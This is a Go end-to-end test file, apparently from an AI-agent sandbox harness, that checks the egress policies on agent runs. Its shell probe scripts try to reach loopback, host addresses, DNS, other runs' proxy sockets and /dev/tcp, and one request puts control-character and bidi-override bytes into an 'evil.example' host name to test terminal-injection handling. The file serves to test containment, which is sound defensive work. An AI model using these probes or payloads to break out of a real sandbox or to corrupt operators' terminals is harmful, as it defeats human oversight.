//go:build linux

package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	be "encoding/binary"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	harnessv1 "github.com/harnessfacts/harnessfacts/api/v1alpha1"
	"github.com/harnessfacts/harnessfacts/internal/testing/testenv"
)

// There is no internet here: local servers stand in for the world.
// 127.0.0.2 plays the model provider, 127.0.0.3 plays "elsewhere", both on
// the host's loopback (inside the sandbox every 127.x address is the
// sandbox's own loopback, where nothing of the host listens). The host's
// own non-loopback address plays "a host address" and carries a DNS stand-in.

// countingServer serves HTTP (or HTTPS with cert) on addr and counts hits.
type countingServer struct {
	addr string
	hits atomic.Int64
}

func serve(t *testing.T, addr, body string, cert *tls.Certificate) *countingServer {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	s := &countingServer{addr: ln.Addr().String()}
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		s.hits.Add(1)
		_, _ = fmt.Fprint(w, body)
	})}
	if cert != nil {
		ln = tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{*cert}})
	}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return s
}

// testCA makes a CA and a server certificate for ip signed by it; it
// returns the CA in PEM, which the agent trusts with curl --cacert.
func testCA(t *testing.T, ip string) ([]byte, *tls.Certificate) {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "harnessfacts e2e test CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, ca, ca, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	caCert, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leaf := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: ip},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.ParseIP(ip)}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		KeyUsage: x509.KeyUsageDigitalSignature}
	der, err := x509.CreateCertificate(rand.Reader, leaf, caCert, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}),
		&tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// hostAddress is a non-loopback IPv4 address of this machine.
func hostAddress(t *testing.T) string {
	t.Helper()
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	t.Skip("this machine has no non-loopback IPv4 address to stand in for a host address")
	return ""
}

// dnsStandIn answers every A query on addr (UDP) with 192.0.2.53 and counts
// the queries it got.
func dnsStandIn(t *testing.T, addr string) (string, *atomic.Int64) {
	t.Helper()
	pc, err := net.ListenPacket("udp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = pc.Close() })
	var queries atomic.Int64
	go func() {
		buf := make([]byte, 512)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			queries.Add(1)
			q := buf[:n]
			if n < 12 {
				continue
			}
			// The question ends after its name (labels up to a zero byte)
			// and four bytes of type and class.
			end := 12
			for end < n && q[end] != 0 {
				end += int(q[end]) + 1
			}
			end += 5
			if end > n {
				continue
			}
			qtype := be.BigEndian.Uint16(q[end-4:])
			resp := append([]byte{}, q[:end]...)
			resp[2], resp[3] = 0x81, 0x80        // a response, recursion available, no error
			be.BigEndian.PutUint16(resp[6:], 0)  // answers
			be.BigEndian.PutUint16(resp[8:], 0)  // authority
			be.BigEndian.PutUint16(resp[10:], 0) // additional
			if qtype == 1 {
				be.BigEndian.PutUint16(resp[6:], 1)
				resp = append(resp, 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 53)
			}
			_, _ = pc.WriteTo(resp, from)
		}
	}()
	return pc.LocalAddr().String(), &queries
}

// egressProbe is the agent of TestProviderOnlyEgress: each line it prints
// is "PASS name" or "FAIL name: what happened".
const egressProbe = `set -u
pass() { echo "PASS $1"; [ $# -gt 1 ] && echo "  $2"; true; }
fail() { echo "FAIL $1: $2"; }
[ "${HTTPS_PROXY:-}" = http://127.0.0.1:7701 ] && [ "${http_proxy:-}" = http://127.0.0.1:7701 ] && case "${NO_PROXY:-}" in *127.0.0.1*) true;; *) false;; esac \
	&& pass env || fail env "HTTPS_PROXY=${HTTPS_PROXY:-} http_proxy=${http_proxy:-} NO_PROXY=${NO_PROXY:-}"
r=$(curl -sS --max-time 10 http://$PROVIDER/ 2>&1); [ "$r" = provider-plain ] && pass allowed-plain || fail allowed-plain "$r"
r=$(curl -sS --max-time 10 --cacert ../fixture/ca.pem https://$PROVIDER_TLS/ 2>&1); [ "$r" = provider-tls ] && pass allowed-connect-tls || fail allowed-connect-tls "$r"
code=$(curl -sS --max-time 10 -o "$TMPDIR/body" -w '%{http_code}' http://$ELSEWHERE/ 2>&1)
[ "$code" = 403 ] && grep -q 'is not allowed for this run' "$TMPDIR/body" && pass denied-plain || fail denied-plain "$code $(cat "$TMPDIR/body")"
r=$(curl -sS --max-time 10 -k https://$ELSEWHERE/ 2>&1) && fail denied-connect "$r" || case "$r" in *403*) pass denied-connect;; *) fail denied-connect "$r";; esac
code=$(curl -sS --max-time 10 -o "$TMPDIR/body" -w '%{http_code}' http://$INSIDE/ 2>&1)
[ "$code" = 403 ] && grep -q 'a loopback address' "$TMPDIR/body" && pass inside-refused || fail inside-refused "$code $(cat "$TMPDIR/body")"
r=$(curl -sS --max-time 10 --noproxy '' http://localhost:$NAMED_PORT/ 2>&1); [ "$r" = named ] && pass inside-by-name || fail inside-by-name "$r"
r=$(curl -sS --max-time 5 --noproxy '*' http://$PROVIDER/ 2>&1) && fail direct "reached $r" || pass direct "($r)"
r=$(curl -sS --max-time 5 --noproxy '*' http://$HOST_HTTP/ 2>&1) && fail host-address-http "reached $r" || pass host-address-http "($r)"
r=$(timeout 5 bash -c "exec 3<>/dev/tcp/${HOST_HTTP%:*}/${HOST_HTTP#*:}" 2>&1) && fail host-address-tcp "connected" || pass host-address-tcp "($r)"
r=$(timeout 5 bash -c "printf 'x' >/dev/udp/${DNS%:*}/${DNS#*:}" 2>&1) && fail dns-server-udp "sent" || pass dns-server-udp "($r)"
r=$(getent hosts provider.harnessfacts.test 2>&1) && fail dns-lookup "resolved $r" || pass dns-lookup "(exit $?)"
r=$(curl -sS --max-time 10 -X POST "$HARNESSFACTS_MCP_URL" -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' \
	-H 'MCP-Protocol-Version: 2025-06-18' \
	--data '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"probe","version":"1"}}}' 2>&1)
case "$r" in *protocolVersion*) pass mcp-http;; *) fail mcp-http "$r";; esac
echo done
`

// TestProviderOnlyEgress runs an agent under egress ProviderOnly in real
// bwrap: it reaches its provider through the run's proxy (plain HTTP and
// CONNECT with TLS), nothing else; the refusals are counted in status and an
// Event. Every stand-in listens on the host's loopback, an inside address:
// the provider at the run's loopback providerURL passes on that exact port,
// the TLS provider and a server named localhost because a HarnessPolicy
// allows 127.0.0.2 and localhost (network.insideHosts, carried to the
// node-agent in status.insideHosts), and a loopback allowHosts entry the
// policy does not name is refused after resolution.
func TestProviderOnlyEgress(t *testing.T) {
	ctx := context.Background()
	hostIP := hostAddress(t)
	caPEM, cert := testCA(t, "127.0.0.2")
	provider := serve(t, "127.0.0.2:0", "provider-plain", nil)
	providerTLS := serve(t, "127.0.0.2:0", "provider-tls", cert)
	elsewhere := serve(t, "127.0.0.3:0", "elsewhere", nil)
	inside := serve(t, "127.0.0.3:0", "inside", nil)
	named := serve(t, "127.0.0.1:0", "named", nil)
	_, namedPort, _ := net.SplitHostPort(named.addr)
	hostHTTP := serve(t, net.JoinHostPort(hostIP, "0"), "host", nil)
	dns, dnsQueries := dnsStandIn(t, net.JoinHostPort(hostIP, "0"))

	// The stand-ins work from the host, so a failure inside the sandbox is
	// the sandbox's doing.
	if res, err := http.Get("http://" + hostHTTP.addr); err != nil {
		t.Fatal(err)
	} else {
		_ = res.Body.Close()
	}
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", dns)
	}}
	if addrs, err := r.LookupHost(context.Background(), "provider.harnessfacts.test"); err != nil || len(addrs) == 0 {
		t.Fatalf("the DNS stand-in does not answer from the host: %v %v", addrs, err)
	}
	hostHits, dnsBefore := hostHTTP.hits.Load(), dnsQueries.Load()

	ns := newNamespace(t, "e2e-egress")
	nsObj := &corev1.Namespace{}
	if err := k8s.Get(ctx, types.NamespacedName{Name: ns}, nsObj); err != nil {
		t.Fatal(err)
	}
	nsObj.Labels = map[string]string{"e2e-egress": "yes"}
	if err := k8s.Update(ctx, nsObj); err != nil {
		t.Fatal(err)
	}
	policy := &harnessv1.HarnessPolicy{ObjectMeta: metav1.ObjectMeta{Name: "e2e-egress-inside"}, Spec: harnessv1.HarnessPolicySpec{
		NamespaceSelector: metav1.LabelSelector{MatchLabels: nsObj.Labels},
		Network:           &harnessv1.PolicyNetwork{InsideHosts: []string{"127.0.0.2", "LocalHost"}},
	}}
	if err := k8s.Create(ctx, policy); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = k8s.Delete(context.Background(), policy) })
	script := "PROVIDER=" + provider.addr + " PROVIDER_TLS=" + providerTLS.addr + " ELSEWHERE=" + elsewhere.addr +
		" INSIDE=" + inside.addr + " NAMED_PORT=" + namedPort +
		" HOST_HTTP=" + hostHTTP.addr + " DNS=" + dns + "\n" + egressProbe
	run := &harnessv1.HarnessRun{
		ObjectMeta: metav1.ObjectMeta{Name: "egress", Namespace: ns},
		Spec: harnessv1.HarnessRunSpec{
			NodeSelector: onMainNode,
			// The provider URL and allowHosts are the two ways a run names
			// what it may reach.
			Agent: harnessv1.AgentSpec{Adapter: harnessv1.AdapterExec, Command: []string{"bash", "../fixture/probe.sh"},
				ProviderURL: "http://" + provider.addr + "/v1"},
			Network: harnessv1.NetworkSpec{Egress: harnessv1.EgressProviderOnly, AllowHosts: []string{providerTLS.addr, inside.addr, "localhost:" + namedPort}},
			MCP:     &harnessv1.MCPSpec{Transport: harnessv1.MCPTransportHTTP},
			Fixture: harnessv1.FixtureSource{Inline: &harnessv1.InlineFixture{Files: map[string]string{
				"fixture.yaml": "prompt: probe the network\n", "probe.sh": script, "ca.pem": string(caPEM)}}},
		},
	}
	if err := k8s.Create(context.Background(), run); err != nil {
		t.Fatal(err)
	}
	st := waitTerminal(t, client.ObjectKeyFromObject(run)).Status
	out := tailOf(st)
	t.Logf("the probe's output:\n%s", out)
	if !strings.Contains(out, "done") {
		t.Fatalf("the probe did not finish (%s): %s\n%s", st.Phase, st.Message, out)
	}
	if want := []string{"127.0.0.2", "localhost"}; strings.Join(st.InsideHosts, ",") != strings.Join(want, ",") {
		t.Errorf("status.insideHosts %q, want %q", st.InsideHosts, want)
	}
	for _, check := range []string{"env", "allowed-plain", "allowed-connect-tls", "denied-plain", "denied-connect",
		"inside-refused", "inside-by-name", "direct",
		"host-address-http", "host-address-tcp", "dns-server-udp", "dns-lookup", "mcp-http"} {
		if !strings.Contains(out, "PASS "+check+"\n") {
			t.Errorf("check %s did not pass", check)
		}
	}
	if strings.Contains(out, "FAIL") {
		t.Errorf("probe output:\n%s", out)
	}
	if n := elsewhere.hits.Load(); n != 0 {
		t.Errorf("the denied host was reached %d times", n)
	}
	if n := hostHTTP.hits.Load() - hostHits; n != 0 {
		t.Errorf("the host address was reached %d times from the sandbox", n)
	}
	if n := dnsQueries.Load() - dnsBefore; n != 0 {
		t.Errorf("the DNS stand-in got %d queries from the sandbox", n)
	}
	if n := inside.hits.Load(); n != 0 {
		t.Errorf("the loopback allowHosts entry no policy names was reached %d times", n)
	}
	if provider.hits.Load() != 1 || providerTLS.hits.Load() != 1 || named.hits.Load() != 1 {
		t.Errorf("provider hits: plain %d, TLS %d, named %d; want 1 each", provider.hits.Load(), providerTLS.hits.Load(), named.hits.Load())
	}

	want := harnessv1.NetworkStatus{Egress: harnessv1.EgressProviderOnly, Allowed: 3, Denied: 3, DeniedHosts: []string{elsewhere.addr, inside.addr}}
	if st.Network == nil || st.Network.Egress != want.Egress || st.Network.Allowed != want.Allowed || st.Network.Denied != want.Denied ||
		strings.Join(st.Network.DeniedHosts, ",") != strings.Join(want.DeniedHosts, ",") {
		t.Errorf("status.network %+v, want %+v", st.Network, want)
	}
	if st.Verdict != harnessv1.VerdictFail || st.Reason != harnessv1.ReasonTokenNotSeen {
		// The probe never asks for the token: the verdict says so, and
		// nothing else went wrong.
		t.Errorf("verdict %s reason %s: %s", st.Verdict, st.Reason, st.Message)
	}

	// Events are recorded after the status write, asynchronously.
	var denied []string
	for deadline := time.Now().Add(10 * time.Second); len(denied) == 0 && time.Now().Before(deadline); {
		var events eventsv1.EventList
		if err := k8s.List(context.Background(), &events, client.InNamespace(ns)); err != nil {
			t.Fatal(err)
		}
		for _, e := range events.Items {
			if e.Regarding.Name == run.Name && e.Reason == "EgressDenied" {
				denied = append(denied, e.Note)
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	if len(denied) != 1 || !strings.Contains(denied[0], elsewhere.addr) || !strings.Contains(denied[0], "refused 3") {
		t.Errorf("EgressDenied events %q, want one naming %s", denied, elsewhere.addr)
	}

	// The evidence records the same counts.
	kubeconfig := filepath.Join(t.TempDir(), "kubeconfig")
	if err := env.Kubeconfig(kubeconfig); err != nil {
		t.Fatal(err)
	}
	verified, err := exec.Command(binary, "evidence", "verify", "--kubeconfig", kubeconfig, "-n", ns, run.Name).CombinedOutput()
	if err != nil {
		t.Fatalf("harnessfacts evidence verify: %v\n%s", err, verified)
	}
	waitNoRunDirs(t)
}

// TestEgressProxyIsPerRun: while one run is running, another run's agent
// cannot see or reach the first run's proxy socket, and reaches its
// provider through its own; a run with egress None has no proxy at all.
func TestEgressProxyIsPerRun(t *testing.T) {
	provider := serve(t, "127.0.0.2:0", "provider-plain", nil)
	ns := newNamespace(t, "e2e-egress-per-run")
	inline := func(script string) harnessv1.FixtureSource {
		return harnessv1.FixtureSource{Inline: &harnessv1.InlineFixture{Files: map[string]string{
			"fixture.yaml": "prompt: probe\n", "probe.sh": script}}}
	}
	network := harnessv1.NetworkSpec{Egress: harnessv1.EgressProviderOnly, AllowHosts: []string{provider.addr}}

	// The first run waits until the test lets it go. Its run dir is found
	// by its fixture, which names the namespace: a run dir's name holds
	// nothing of the run.
	firstScript := "# " + ns + "\ni=0; while [ ! -e release ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n"
	first := &harnessv1.HarnessRun{
		ObjectMeta: metav1.ObjectMeta{Name: "first", Namespace: ns},
		Spec: harnessv1.HarnessRunSpec{
			NodeSelector: onMainNode,
			Agent:        harnessv1.AgentSpec{Adapter: harnessv1.AdapterExec, Command: []string{"sh", "../fixture/probe.sh"}},
			Network:      network,
			Fixture:      inline(firstScript),
		},
	}
	if err := k8s.Create(context.Background(), first); err != nil {
		t.Fatal(err)
	}
	var firstDir string
	deadline := time.Now().Add(time.Minute)
	for firstDir == "" {
		entries, _ := os.ReadDir(runRoot)
		for _, e := range entries {
			sock := filepath.Join(runRoot, e.Name(), "sockets", "egress.sock")
			script, _ := os.ReadFile(filepath.Join(runRoot, e.Name(), "fixture", "probe.sh"))
			if string(script) == firstScript && exists(sock) {
				firstDir = filepath.Join(runRoot, e.Name())
			}
		}
		if time.Now().After(deadline) {
			t.Fatal("the first run's egress socket never appeared")
		}
		time.Sleep(50 * time.Millisecond)
	}
	firstSock := filepath.Join(firstDir, "sockets", "egress.sock")

	second := &harnessv1.HarnessRun{
		ObjectMeta: metav1.ObjectMeta{Name: "second", Namespace: ns},
		Spec: harnessv1.HarnessRunSpec{
			NodeSelector: onMainNode,
			// The provider listens on the host's loopback: the run reaches
			// it as its providerURL, on that exact port.
			Agent: harnessv1.AgentSpec{Adapter: harnessv1.AdapterExec, Command: []string{"bash", "../fixture/probe.sh"},
				ProviderURL: "http://" + provider.addr + "/v1"},
			Network: network,
			Fixture: inline(`set -u
[ -e ` + firstSock + ` ] && echo "FAIL sees the first run's socket" || echo "PASS hidden"
r=$(curl -sS --max-time 5 --unix-socket ` + firstSock + ` http://` + provider.addr + `/ 2>&1) && echo "FAIL reached: $r" || echo "PASS unreachable"
r=$(curl -sS --max-time 10 http://` + provider.addr + `/ 2>&1); [ "$r" = provider-plain ] && echo "PASS own-proxy" || echo "FAIL own-proxy: $r"
`),
		},
	}
	if err := k8s.Create(context.Background(), second); err != nil {
		t.Fatal(err)
	}
	st := waitTerminal(t, client.ObjectKeyFromObject(second)).Status
	if err := os.WriteFile(filepath.Join(firstDir, "workspace", "release"), nil, 0o644); err != nil {
		t.Errorf("releasing the first run: %v", err)
	}
	out := tailOf(st)
	for _, want := range []string{"PASS hidden", "PASS unreachable", "PASS own-proxy"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in the second run's output (%s %s: %s):\n%s", want, st.Phase, st.Reason, st.Message, out)
		}
	}
	if st.Network == nil || st.Network.Allowed != 1 || st.Network.Denied != 0 {
		t.Errorf("second run's status.network %+v, want 1 allowed", st.Network)
	}
	if fst := waitTerminal(t, client.ObjectKeyFromObject(first)).Status; fst.Network == nil || fst.Network.Allowed != 0 {
		t.Errorf("first run's status.network %+v: the second run's request was counted there", fst.Network)
	}

	// Egress None: no proxy, no environment pointing at one, nothing reached.
	none := &harnessv1.HarnessRun{
		ObjectMeta: metav1.ObjectMeta{Name: "none", Namespace: ns},
		Spec: harnessv1.HarnessRunSpec{
			NodeSelector: onMainNode,
			Agent:        harnessv1.AgentSpec{Adapter: harnessv1.AdapterExec, Command: []string{"bash", "../fixture/probe.sh"}},
			Network:      harnessv1.NetworkSpec{Egress: harnessv1.EgressNone, AllowHosts: []string{provider.addr}},
			Fixture: inline(`set -u
[ -z "${HTTPS_PROXY:-}${http_proxy:-}" ] && echo "PASS no-proxy-env" || echo "FAIL proxy env set"
ls "$HARNESSFACTS_RUN/sockets"
r=$(curl -sS --max-time 5 -x http://127.0.0.1:7701 http://` + provider.addr + `/ 2>&1) && echo "FAIL reached: $r" || echo "PASS unreachable"
`),
		},
	}
	if err := k8s.Create(context.Background(), none); err != nil {
		t.Fatal(err)
	}
	st = waitTerminal(t, client.ObjectKeyFromObject(none)).Status
	out = tailOf(st)
	if !strings.Contains(out, "PASS no-proxy-env") || !strings.Contains(out, "PASS unreachable") || strings.Contains(out, "egress.sock") {
		t.Errorf("egress None run's output:\n%s", out)
	}
	if st.Network == nil || st.Network.Egress != harnessv1.EgressNone || st.Network.Allowed != 0 {
		t.Errorf("egress None run's status.network %+v", st.Network)
	}
	if n := provider.hits.Load(); n != 1 {
		t.Errorf("the provider was reached %d times, want once (by the second run)", n)
	}
	waitNoRunDirs(t)
}

// onMainNode keeps a run on this process's node-agent, whose run root the
// tests look into.
var onMainNode = map[string]string{mainNodeLabel: "main"}

func exists(p string) bool {
	_, err := os.Stat(p)
	return err == nil
}

// noneProbe is the agent of TestEgressNoneReachesWhatTheDocsSay.
const noneProbe = `set -u
pass() { echo "PASS $1"; }
fail() { echo "FAIL $1: $2"; }
[ -z "${HTTPS_PROXY:-}${https_proxy:-}${HTTP_PROXY:-}${http_proxy:-}" ] && pass no-proxy-env || fail no-proxy-env "$(env | grep -i _proxy)"
devs=$(awk -F: 'NR>2 {gsub(/ /, "", $1); print $1}' /proc/net/dev | tr '\n' ' ')
[ "$devs" = "lo " ] && pass only-loopback || fail only-loopback "$devs"
r=$(curl -sS --max-time 5 --noproxy '*' http://$LOOP/ 2>&1) && fail node-loopback "reached $r" || pass node-loopback
r=$(curl -sS --max-time 5 --noproxy '*' http://$HOST_HTTP/ 2>&1) && fail host-address "reached $r" || pass host-address
r=$(timeout 5 bash -c "printf x >/dev/udp/${DNS%:*}/${DNS#*:}" 2>&1) && fail dns-server-udp "sent" || pass dns-server-udp
r=$(getent hosts provider.harnessfacts.test 2>&1) && fail dns-lookup "resolved $r" || pass dns-lookup
r=$(curl -sS --max-time 5 --unix-socket "$HOST_SOCK" http://x/ 2>&1) && fail host-socket "reached $r" || pass host-socket
r=$(curl -sS --max-time 5 --abstract-unix-socket "$ABSTRACT" http://x/ 2>&1) && fail abstract-socket "reached $r" || pass abstract-socket
r=$(curl -sS --max-time 10 -X POST "$HARNESSFACTS_MCP_URL" -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' \
	-H 'MCP-Protocol-Version: 2025-06-18' \
	--data '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"probe","version":"1"}}}' 2>&1)
case "$r" in *protocolVersion*) pass mcp-http;; *) fail mcp-http "$r";; esac
echo done
`

// serveUnix serves HTTP on the unix socket path (a name starting with @
// is an abstract socket), mode 0666 when it is a file, and counts hits.
func serveUnix(t *testing.T, path string) *atomic.Int64 {
	t.Helper()
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(path, "@") {
		if err := os.Chmod(path, 0o666); err != nil {
			t.Fatal(err)
		}
	}
	var hits atomic.Int64
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		_, _ = fmt.Fprint(w, "host socket")
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	c := http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", path)
	}}}
	// It works from the host, so a refusal in the sandbox is the sandbox's.
	res, err := c.Get("http://x/")
	if err != nil {
		t.Fatalf("the socket %s does not answer from the host: %v", path, err)
	}
	_ = res.Body.Close()
	hits.Store(0)
	return &hits
}

// TestEgressNoneReachesWhatTheDocsSay: a run with egress None reaches what
// docs/node-agent.md says it reaches (its MCP server through the bridge),
// and none of what it says it does not: the node's 127.0.0.1, the node's
// other addresses, DNS, a world-writable host unix socket under /run, an
// abstract unix socket of the node, any network device but its loopback.
// Each stand-in answers from the host first.
func TestEgressNoneReachesWhatTheDocsSay(t *testing.T) {
	hostIP := hostAddress(t)
	loop := serve(t, "127.0.0.1:0", "node loopback", nil)
	hostHTTP := serve(t, net.JoinHostPort(hostIP, "0"), "host", nil)
	dns, dnsQueries := dnsStandIn(t, net.JoinHostPort(hostIP, "0"))
	for _, s := range []*countingServer{loop, hostHTTP} {
		if res, err := http.Get("http://" + s.addr); err != nil {
			t.Fatal(err)
		} else {
			_ = res.Body.Close()
		}
		s.hits.Store(0)
	}
	sockDir, err := os.MkdirTemp("/run", "harnessfacts-e2e-none-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(sockDir) })
	if err := os.Chmod(sockDir, 0o755); err != nil {
		t.Fatal(err)
	}
	hostSock := filepath.Join(sockDir, "daemon.sock")
	sockHits := serveUnix(t, hostSock)
	abstract := fmt.Sprintf("harnessfacts-e2e-none-%d", os.Getpid())
	abstractHits := serveUnix(t, "@"+abstract)
	dnsBefore := dnsQueries.Load()

	ns := newNamespace(t, "e2e-egress-none")
	script := "LOOP=" + loop.addr + " HOST_HTTP=" + hostHTTP.addr + " DNS=" + dns + " HOST_SOCK=" + hostSock + " ABSTRACT=" + abstract + "\n" + noneProbe
	run := &harnessv1.HarnessRun{
		ObjectMeta: metav1.ObjectMeta{Name: "none", Namespace: ns},
		Spec: harnessv1.HarnessRunSpec{
			NodeSelector: onMainNode,
			Agent:        harnessv1.AgentSpec{Adapter: harnessv1.AdapterExec, Command: []string{"bash", "../fixture/probe.sh"}},
			Network:      harnessv1.NetworkSpec{Egress: harnessv1.EgressNone},
			MCP:          &harnessv1.MCPSpec{Transport: harnessv1.MCPTransportHTTP},
			Fixture: harnessv1.FixtureSource{Inline: &harnessv1.InlineFixture{Files: map[string]string{
				"fixture.yaml": "prompt: probe the network\n", "probe.sh": script}}},
		},
	}
	if err := k8s.Create(context.Background(), run); err != nil {
		t.Fatal(err)
	}
	st := waitTerminal(t, client.ObjectKeyFromObject(run)).Status
	out := tailOf(st)
	if !strings.Contains(out, "done") {
		t.Fatalf("the probe did not finish (%s): %s\n%s", st.Phase, st.Message, out)
	}
	for _, check := range []string{"no-proxy-env", "only-loopback", "node-loopback", "host-address", "dns-server-udp", "dns-lookup",
		"host-socket", "abstract-socket", "mcp-http"} {
		if !strings.Contains(out, "PASS "+check+"\n") {
			t.Errorf("check %s did not pass", check)
		}
	}
	if strings.Contains(out, "FAIL") {
		t.Errorf("probe output:\n%s", out)
	}
	for name, n := range map[string]int64{"the node's 127.0.0.1": loop.hits.Load(), "the node's address": hostHTTP.hits.Load(),
		"the DNS stand-in": dnsQueries.Load() - dnsBefore, "the host socket under /run": sockHits.Load(), "the abstract socket": abstractHits.Load()} {
		if n != 0 {
			t.Errorf("%s was reached %d times from the sandbox", name, n)
		}
	}
	if st.Sandbox == nil || st.Sandbox.Mode != "bwrap" || st.Network == nil || st.Network.Egress != harnessv1.EgressNone {
		t.Errorf("sandbox %+v, network %+v: want bwrap, egress None", st.Sandbox, st.Network)
	}
	waitNoRunDirs(t)
}

// TestDeniedHostsAreShownInert: the egress proxy reads a request's host as
// Go's URL parser decodes it, which takes percent-encoded non-ASCII. An
// agent that asked for http://%C2%9B2J%E2%80%AEevil/ had the 8-bit CSI
// U+009B and a bidi override put raw into status.network.deniedHosts, the
// receipt and the EgressDenied Event (`kubectl get events` wrote them to
// the reader's terminal), and U+009B made `harnessfacts run` print
// "yaml: control characters are not allowed" instead of the status, and
// `kubectl get -o yaml` fail for the run, its evidence ConfigMap and the
// namespace's Events. They are shown inert, as in the output tail.
func TestDeniedHostsAreShownInert(t *testing.T) {
	const script = `port=${HTTP_PROXY##*:}
exec 3<>/dev/tcp/127.0.0.1/$port
printf 'GET http://%%C2%%9B2J%%E2%%80%%AEevil.example/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' >&3
head -1 <&3`
	inert := func(where string, hosts []string) {
		t.Helper()
		if len(hosts) != 1 || !strings.Contains(hosts[0], "<U+009B>2J<U+202E>evil.example") {
			t.Errorf("%s: deniedHosts %q, want the host with U+009B and U+202E shown inert", where, hosts)
		}
	}
	st := localRun(t, "", localRunYAML("c1-host", "prompt: ask\n", script, ""))
	if st.Network == nil {
		t.Fatalf("harnessfacts run: no network status: %s", st.Message)
	}
	inert("harnessfacts run", st.Network.DeniedHosts)

	ns := newNamespace(t, "e2e-c1-host")
	run := &harnessv1.HarnessRun{
		ObjectMeta: metav1.ObjectMeta{Name: "c1-host", Namespace: ns},
		Spec: harnessv1.HarnessRunSpec{
			Agent:   harnessv1.AgentSpec{Adapter: harnessv1.AdapterExec, Command: []string{"bash", "-c", script}},
			Fixture: harnessv1.FixtureSource{Inline: &harnessv1.InlineFixture{Files: map[string]string{"fixture.yaml": "prompt: ask\n"}}},
		},
	}
	if err := k8s.Create(context.Background(), run); err != nil {
		t.Fatal(err)
	}
	got := waitTerminal(t, client.ObjectKeyFromObject(run))
	if got.Status.Network == nil {
		t.Fatalf("no network status: %s", got.Status.Message)
	}
	inert("on the cluster", got.Status.Network.DeniedHosts)
	if _, err := yaml.Marshal(got); err != nil {
		t.Errorf("kubectl get -o yaml of the run would fail: %v", err)
	}
	cm := &corev1.ConfigMap{}
	if err := k8s.Get(context.Background(), types.NamespacedName{Namespace: ns, Name: got.Status.Evidence.ConfigMapName}, cm); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(cm.Data["receipt.json"], "\u009b\u202e") {
		t.Errorf("the receipt holds the raw host: %s", cm.Data["receipt.json"])
	}
	for _, e := range testenv.FinishedRunEvents(t, k8s, got) {
		if strings.ContainsAny(e.Note, "\u009b\u202e") {
			t.Errorf("Event %s holds the raw host: %q", e.Reason, e.Note)
		}
		if _, err := yaml.Marshal(e); err != nil {
			t.Errorf("kubectl get events -o yaml would fail on Event %s: %v", e.Reason, err)
		}
	}
	waitNoRunDirs(t)
}

// TestModelNamesAreShownInert: a provider that names the model it was
// asked for (vLLM, Ollama, LiteLLM and fake-provider do) lets the agent
// choose the words of status.usage.models through the model gateway. An
// agent that asked for a model named with the 8-bit CSI U+009B, a bidi
// override and U+FFFE had them stored raw in status and the receipt:
// `harnessfacts run` printed "yaml: control characters are not allowed"
// instead of the run's status (as `kubectl get -o yaml` would fail), and
